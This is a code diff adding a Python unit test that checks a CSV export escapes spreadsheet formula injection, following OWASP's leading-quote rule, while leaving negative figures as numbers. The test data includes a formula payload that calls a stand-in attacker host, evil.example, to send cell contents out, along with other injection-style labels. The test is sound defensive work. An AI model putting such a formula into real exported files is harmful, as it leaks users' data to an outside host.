@@ -96,6 +96,17 @@ def test_the_csv_has_one_line_per_cell_with_its_figures_and_flags() -> None:
         "sharpness")
 
 
+def test_the_csv_writes_formula_labels_as_text_and_keeps_negative_numbers() -> None:
+    """OWASP's rule: a cell starting with =, +, -, @, tab or CR gets a leading quote; figures stay numbers."""
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2+3"]
+    layout = Layout(["Steps", "CFG Scale", ""], [formulas, ["@SUM(A1:A9)", "\tTab", "\rReturn"], [""]])
+    quality = dict.fromkeys(SHARP, 1150)  # noise = 10 − 1150 / 100 = −1.5 in every cell
+    rows = list(csv.DictReader(io.StringIO(matrix_csv(build_matrix(plot_frame(COST, quality), layout, "noise")))))
+    assert {row["x label"] for row in rows} == {"'" + label for label in formulas}
+    assert {row["y label"] for row in rows} == {"'@SUM(A1:A9)", "'\tTab", "'\rReturn"}
+    assert {row["quality median"] for row in rows} == {"-1.5"} and {row["quality min"] for row in rows} == {"-1.5"}
+
+
 def test_no_quality_figure_yet_says_so_and_picks_nothing() -> None:
     frame = plot_frame(COST, SHARP)
     frame["sharpness"] = np.nan
